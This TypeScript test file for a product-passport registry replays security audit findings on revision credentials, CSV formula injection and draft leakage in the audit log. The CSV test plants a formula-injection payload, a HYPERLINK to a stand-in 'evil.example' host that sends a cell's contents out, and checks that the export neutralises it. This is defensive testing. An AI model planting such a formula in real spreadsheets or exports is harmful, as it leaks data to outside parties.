import { parseCsv, verifyMaterialsExport } from '@registry/verification';
import { createHash } from 'node:crypto';
import { Readable } from 'node:stream';
import { lampComposition, REGISTER, registerInput } from '../support/factories';
import { TestApp, type TestOrganization } from '../support/test-app';

// Issue 9, findings 4, 7 and 10 (audit log): each attack replayed against the running registry.

const REVISE = 'mutation($i: RevisePassportInput!) { revisePassport(input: $i) { revision } }';
const PUBLISH = 'mutation($id: ID!) { publishPassport(passportId: $id) { status } }';
const ARCHIVE = 'mutation($id: ID!) { archivePassport(passportId: $id) { status } }';
const EVENTS = `query($filter: AuditEventFilter, $first: Int, $after: String) {
  auditEvents(filter: $filter, first: $first, after: $after) {
    edges { node { id action passportId revision details } }
    pageInfo { hasNextPage endCursor }
  }
}`;

describe('published data only, safe CSV, drafts out of the audit log', () => {
  let t: TestApp;
  let maker: TestOrganization;
  let recycler: TestOrganization;
  let auditor: TestOrganization;

  const gql = async (query: string, variables: Record<string, unknown>, key: string) => {
    const res = await t.gql(query, variables, key);
    if (res.errors) throw new Error(JSON.stringify(res.errors));
    return res.data;
  };
  const register = async (owner: TestOrganization, overrides: Record<string, unknown> = {}) =>
    (await gql(REGISTER, { i: registerInput(overrides, owner) }, owner.key)).registerPassport.id as string;
  const revise = (id: string, expectedRevision: number, key = maker.key) =>
    gql(REVISE, { i: { passportId: id, expectedRevision, productName: `Lamp r${expectedRevision + 1}` } }, key);
  const credential = (id: string, revision: number | null, key: string) =>
    t
      .http()
      .get(`/passports/${id}/credential${revision === null ? '' : `?revision=${revision}`}`)
      .set('authorization', `Bearer ${key}`);

  beforeAll(async () => {
    t = await TestApp.start({ publicBaseUrl: 'https://registry.example.org' });
    maker = await t.organization('MANUFACTURER');
    recycler = await t.organization('RECYCLER');
    auditor = await t.organization('AUDITOR');
  });
  afterAll(() => t.close());

  describe('credentials of earlier revisions (finding 4)', () => {
    /** Revision 1 written and replaced as a DRAFT; revision 2 current at publication; revision 3 written while PUBLISHED. */
    let id: string;
    beforeAll(async () => {
      id = await register(maker);
      await revise(id, 1);
      await gql(PUBLISH, { id }, maker.key);
      await revise(id, 2);
    });

    it('refuses a recycler any revision but the current one, as it refuses revisions and passportDiff', async () => {
      for (const revision of [1, 2]) {
        const res = await credential(id, revision, recycler.key).expect(403);
        expect(res.body.errors[0].extensions).toMatchObject({ code: 'FORBIDDEN', requiredTier: 'AUTHORITY' });
        expect(res.body.errors[0].message).toContain(`earlier revision (${revision})`);
      }
      const current = await credential(id, null, recycler.key).expect(200);
      expect(current.body.credential.credentialSubject.passportRecord).toMatchObject({ revision: 3, status: 'PUBLISHED' });
      await credential(id, 3, recycler.key).expect(200);
    });

    it('issues nobody, not even the owner, a credential of a revision that was never published', async () => {
      for (const key of [auditor.key, maker.key, t.adminKey]) {
        const res = await credential(id, 1, key).expect(409);
        expect(res.body.errors[0].extensions).toMatchObject({ code: 'CONFLICT', revision: 1, status: 'DRAFT' });
        expect(res.body.errors[0].message).toMatch(new RegExp(`^Revision 1 of passport ${id} was never published`));
      }
    });

    it('issues auditors and the owner credentials of published revisions, stating the status each had', async () => {
      const published = (await credential(id, 2, auditor.key).expect(200)).body.credential;
      expect(published.credentialSubject.passportRecord).toMatchObject({ revision: 2, status: 'PUBLISHED' });
      expect(published.validUntil).toEqual(expect.any(String));
      await credential(id, 2, maker.key).expect(200);

      await gql(ARCHIVE, { id }, maker.key);
      const current = (await credential(id, null, auditor.key).expect(200)).body.credential;
      expect(current.credentialSubject.passportRecord).toMatchObject({ revision: 3, status: 'ARCHIVED' });
      // Revision 2 was replaced while the passport was PUBLISHED: archiving later does not change what it was.
      const earlier = (await credential(id, 2, auditor.key).expect(200)).body.credential;
      expect(earlier.credentialSubject.passportRecord).toMatchObject({ revision: 2, status: 'PUBLISHED' });
    });

    it('issues none for a passport archived straight from DRAFT', async () => {
      const archivedDraft = await register(maker);
      await gql(ARCHIVE, { id: archivedDraft }, maker.key);
      for (const key of [maker.key, auditor.key, recycler.key]) {
        const res = await credential(archivedDraft, null, key).expect(409);
        expect(res.body.errors[0].extensions).toMatchObject({ code: 'CONFLICT', revision: 1 });
      }
    });
  });

  describe('materials.csv (finding 7)', () => {
    const ATTACK = '=HYPERLINK("http://evil.example/?leak="&A2)';

    it('writes cells that start like a formula as text, and its manifest and verify still agree', async () => {
      const composition = lampComposition();
      composition.components[0].name = '@SUM(1+1)';
      composition.components[0].materials[0].name = ATTACK;
      composition.components[0].materials[1].name = '-2+3';
      composition.components[1].materials[0].name = '+cmd';
      composition.components[1].materials[2].name = '\tTab';
      const id = await register(maker, { publish: true, composition });

      const res = await t
        .http()
        .get('/exports/materials.csv')
        .set('authorization', `Bearer ${auditor.key}`)
        .buffer(true)
        .parse((r, done) => {
          const chunks: Buffer[] = [];
          r.on('data', (chunk: Buffer) => chunks.push(chunk));
          r.on('end', () => done(null, Buffer.concat(chunks)));
        })
        .expect(200);
      const bytes = res.body as Buffer;
      const text = bytes.toString('utf8');
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A2)"`);
      const cells = parseCsv(text).flat();
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      expect(cells).toEqual(expect.arrayContaining([`'${ATTACK}`, "'@SUM(1+1)", "'-2+3", "'+cmd", "'\tTab"]));

      const rows = text
        .trimEnd()
        .split('\r\n')
        .filter((line) => line.startsWith(id));
      const housing = rows.find((line) => line.includes("'@SUM(1+1)"))!;
      // Numbers the registry writes stay numbers: the aluminium's mass and recycled share.
      expect(housing).toMatch(/,0\.079,0\.079,50,/);
      expect(rows.some((line) => line.includes(",'-2+3,"))).toBe(true);
      expect(rows.some((line) => line.includes(",'+cmd,"))).toBe(true);
      expect(rows.some((line) => line.includes(",'\tTab,"))).toBe(true);

      const asOf = res.headers['x-export-as-of'];
      const manifest = (
        await t
          .http()
          .get(`/exports/materials.csv.manifest.json?asOf=${encodeURIComponent(asOf)}`)
          .set('authorization', `Bearer ${auditor.key}`)
          .expect(200)
      ).body.manifest;
      expect(manifest.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
      const jwks = (await t.http().get('/.well-known/jwks.json').expect(200)).body;
      const verification = await verifyMaterialsExport(Readable.from([bytes]), manifest, jwks);
      expect(verification.problems).toEqual([]);
    });
  });

  describe('the audit log (finding 10)', () => {
    it("shows auditors no event of another organization's draft, with full pages; the owner sees them all", async () => {
      const other = await t.organization('MANUFACTURER');
      const draft = await register(other);
      await revise(draft, 1, other.key);

      // The attack: an auditor reading the log, by passport or as a whole.
      const byPassport = await gql(EVENTS, { filter: { passportId: draft } }, auditor.key);
      expect(byPassport.auditEvents.edges).toEqual([]);
      const seen: any[] = [];
      let after: string | null = null;
      do {
        const page: any = await gql(EVENTS, { first: 3, after }, auditor.key);
        // Draft events are left out by the query itself: every page but the last is full.
        if (page.auditEvents.pageInfo.hasNextPage) expect(page.auditEvents.edges).toHaveLength(3);
        seen.push(...page.auditEvents.edges.map((edge: any) => edge.node));
        after = page.auditEvents.pageInfo.hasNextPage ? page.auditEvents.pageInfo.endCursor : null;
      } while (after);
      expect(seen.filter((event) => event.passportId === draft)).toEqual([]);
      expect(seen.some((event) => event.details?.status === 'DRAFT')).toBe(false);

      const own = await gql(EVENTS, { filter: { passportId: draft } }, other.key);
      expect(own.auditEvents.edges.map((edge: any) => edge.node.action)).toEqual(['passport.revised', 'passport.registered']);
      expect((await gql(EVENTS, { filter: { passportId: draft } }, t.adminKey)).auditEvents.edges).toHaveLength(2);

      // Once published, what happens to the passport is the auditors' business; its draft past is not.
      await gql(PUBLISH, { id: draft }, other.key);
      await revise(draft, 2, other.key);
      const published = await gql(EVENTS, { filter: { passportId: draft } }, auditor.key);
      expect(published.auditEvents.edges.map((edge: any) => [edge.node.action, edge.node.revision])).toEqual([
        ['passport.revised', 3],
        ['passport.published', 2],
      ]);
    });
  });
});
